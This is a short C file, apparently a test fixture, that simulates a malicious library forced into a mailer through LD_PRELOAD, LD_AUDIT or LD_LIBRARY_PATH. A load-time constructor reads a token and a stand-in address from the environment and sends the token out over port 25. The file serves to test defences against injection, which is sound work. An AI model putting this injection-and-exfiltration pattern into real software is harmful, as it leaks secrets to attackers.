/* evil.c - code that the dynamic linker is made to load into the mailer: it sends its own
 * token, found in the environment.  Stands for LD_PRELOAD, LD_AUDIT and LD_LIBRARY_PATH. */
#include "try.h"

void mailer_library(void);
unsigned la_version(unsigned version);

void
mailer_library(void)
{
}

unsigned
la_version(unsigned version)
{
	return version;
}

__attribute__((constructor)) static void
send_own(void)
{
	char *token = getenv("EVIL_TOKEN"), *address = getenv("EVIL_ADDRESS");
	char *argv[] = { "", address, "25", token };
	if (!token || !address)
		return;
	struct aim a = aim_read(4, argv);
	_exit(send_token(&a));
}
